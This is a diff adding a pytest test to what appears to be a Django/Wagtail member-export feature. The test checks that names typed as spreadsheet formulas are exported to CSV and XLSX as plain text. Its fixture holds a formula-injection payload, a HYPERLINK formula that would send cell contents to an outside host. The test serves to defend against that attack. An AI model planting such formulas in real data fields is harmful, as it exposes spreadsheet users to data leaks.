@@ -318,3 +318,25 @@ def test_exports_are_in_the_privacy_registry(client, admin, django_capture_on_co
         exports.erase_exports(admin, by=admin, former={})
     assert not Export.objects.exists()
     assert not stored.exists()
+
+
+@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
+def test_a_name_typed_as_a_formula_stays_text_in_the_export(client, admin, export_format):
+    """A member named "=HYPERLINK(…)" (or an answer, an organization typed by a member) reaches
+    the accountant's spreadsheet as text, never as a formula the program would run."""
+    formula = '=HYPERLINK("https://example.com/?x="&A1,"Cliquez")'
+    UserFactory(first_name=formula, last_name="-2+3", email="formule@example.com")
+    response = client.get(reverse("member_people:index"), {"export": export_format})
+    content = b"".join(response.streaming_content)
+    for closer in response._resource_closers:
+        closer()
+    response._resource_closers = []
+    if export_format == "csv":
+        row = next(
+            r for r in csv.reader(io.StringIO(content.decode())) if "formule@example.com" in r
+        )
+        assert f"'{formula}" in row and "'-2+3" in row
+    else:  # Wagtail writes XLSX text cells as text (no formula), the value as typed
+        sheet = load_workbook(io.BytesIO(content)).active
+        cells = [c for r in sheet.iter_rows() for c in r if c.value in (formula, "-2+3")]
+        assert len(cells) == 2 and all(c.data_type == "s" for c in cells)
